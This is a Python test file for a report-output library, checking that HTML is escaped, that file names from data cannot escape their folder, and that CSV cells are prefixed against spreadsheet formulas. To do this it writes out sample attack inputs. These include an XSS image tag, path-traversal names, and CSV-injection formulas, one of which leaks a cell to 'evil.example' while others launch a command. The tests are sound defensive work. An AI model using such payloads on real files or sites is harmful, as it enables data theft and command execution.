"""ReportOutputs: escaped HTML, and file names that stay apart and inside (issue 35)."""

from __future__ import annotations

import pandas as pd
import pytest

from accordkit.report.filenames import run_folder, safe_file_name
from accordkit.report.outputs import ReportOutputs

XSS = '<img src=x onerror="alert(1)">'


def _summary(domain: str, metric: str) -> pd.DataFrame:
    return pd.DataFrame({"domain": [domain], "metric": [metric], "estimate": [0.5],
                         "ci_low": [0.4], "ci_high": [0.6], "small_cell": [False]})


def test_frame_escapes_cells_headers_and_caption(tmp_path):
    out = ReportOutputs(tmp_path, "nb")
    frame = pd.DataFrame({XSS: [XSS], "n": [1.23456]})
    html = out.frame(frame, "t", caption=XSS)._repr_html_()
    assert "<img" not in html and html.count("&lt;img src=x onerror=") == 3
    assert "1.235" in html


def test_a_quote_in_a_name_cannot_leave_the_wrappers_attributes(tmp_path):
    out = ReportOutputs(tmp_path, "nb")
    name = 'x" onmouseover="alert(1)'
    html = out.frame(pd.DataFrame({"a": [1]}), name)._repr_html_()
    from bs4 import BeautifulSoup

    wrapper = BeautifulSoup(html, "html.parser").div
    assert sorted(wrapper.attrs) == ["class", "data-ak-table", "data-csv", "id"]
    assert wrapper["data-ak-table"] == name


def test_names_with_a_dot_get_files_of_their_own(tmp_path):
    """`airline.v2` made every per-metric table of the domain one file (with_suffix)."""
    out = ReportOutputs(tmp_path, "nb")
    for metric in ("reward", "cost"):
        out.table(_summary("airline.v2", metric), f"tau2__airline.v2__{metric}", rows="domain")
    out.table(_summary("airline_v2", "reward"), "tau2__airline_v2__reward", rows="domain")
    csvs = sorted((tmp_path / "tables").glob("*.csv"))
    assert len(csvs) == 3
    assert {pd.read_csv(p)["metric"].iloc[0] for p in csvs} == {"reward", "cost"}


@pytest.mark.parametrize("name", ["x/../../escaped", "../../../tmp/x", "/abs/path", "a\\..\\b",
                                  "..", "con.csv", "é" * 300])
def test_names_from_the_data_stay_in_their_folder(tmp_path, name):
    out = ReportOutputs(tmp_path / "rep", "nb")
    out.frame(pd.DataFrame({"a": [1]}), name)
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all((tmp_path / "rep" / "tables") in p.parents for p in written)
    assert all(len(p.name) < 200 for p in written)


def test_safe_names_are_kept_and_others_never_collide():
    assert safe_file_name("table3_by_domain") == "table3_by_domain"
    names = ["a.b", "a_b", "a-b", "a/b", "a b", "a.b ", "A.b"]
    assert len({safe_file_name(n) for n in names}) == len(names)
    assert run_folder("domains=shop,seed=1") == "domains=shop,seed=1"
    assert "/" not in run_folder("domains=../x") and ".." not in run_folder("domains=../x")


# --- tables that read (issue 36, item 5) ----------------------------------------------------

def test_a_frame_shows_key_columns_first_and_counts_as_counts(tmp_path):
    from bs4 import BeautifulSoup

    out = ReportOutputs(tmp_path, "nb")
    frame = pd.DataFrame({"source": ["a/long/path.json"] * 2, "default": [0.5, 239.0],
                          "metric": ["tsr", "n_tool_calls"], "domain": ["airline"] * 2,
                          "n_episodes": [36.0, 1234.0]})
    soup = BeautifulSoup(out.frame(frame, "modes")._repr_html_(), "html.parser")
    heads = [th.get_text() for th in soup.thead.find_all("th")]
    assert heads == ["domain", "metric", "default", "n_episodes", "source"]
    rows = [[td.get_text() for td in tr.find_all("td")] for tr in soup.tbody.find_all("tr")]
    assert rows == [["airline", "tsr", "0.500", "36", "a/long/path.json"],
                    ["airline", "n_tool_calls", "239", "1,234", "a/long/path.json"]]
    # the CSV keeps every value and the columns as the notebook made them
    assert list(pd.read_csv(tmp_path / "tables" / "nb__modes.csv").columns) == list(frame)


def test_a_summary_tables_page_caption_leaves_the_provenance_line_to_the_page(tmp_path):
    prov = {"accordkit_version": "0.1.0", "parameters": {"seed": 4}}
    out = ReportOutputs(tmp_path, "nb", provenance=prov)
    html = out.table(_summary("airline", "TSR"), "main", rows="domain",
                     caption="Main.")._repr_html_()
    assert "accordkit 0.1.0" not in html and "Main." in html
    assert "accordkit 0.1.0" in (tmp_path / "tables" / "nb__main.md").read_text()


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_every_csv_prefixes_formula_like_text_and_keeps_numbers(tmp_path):
    """Issue 41.5: a model name ``=HYPERLINK(...)`` reached the CSV tables raw."""
    import csv

    import matplotlib.pyplot as plt

    out = ReportOutputs(tmp_path, "nb")
    n = len(FORMULAS)
    summary = pd.DataFrame({"agent_model": FORMULAS, "metric": ["reward"] * n,
                            "estimate": [-0.5] * n, "ci_low": [-1.25] * n,
                            "ci_high": [0.5] * n, "small_cell": [False] * n,
                            "delta": ["-0.5"] * n})
    out.table(summary, "main", rows="agent_model")
    out.frame(summary.rename(columns={"delta": "=header"}), "plain")
    fig, ax = plt.subplots()
    ax.plot([0, 1], [0, 1])
    out.figure(fig, "fig", data=summary)
    plt.close(fig)
    csvs = sorted(tmp_path.rglob("*.csv"))
    assert len(csvs) == 3
    for path in csvs:
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        header, body = rows[0], rows[1:]
        assert not any(h.startswith(("=", "+", "-", "@", "\t", "\r")) for h in header)
        cells = [c for row in body for c in row]
        assert [row[header.index("agent_model")] for row in body] == [f"'{f}" for f in FORMULAS]
        assert {row[header.index("estimate")] for row in body} == {"-0.5"}
        assert {row[header.index("ci_low")] for row in body} == {"-1.25"}
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
        assert [c for c in cells if c.startswith("-")] == ["-0.5", "-1.25", "-0.5"] * n
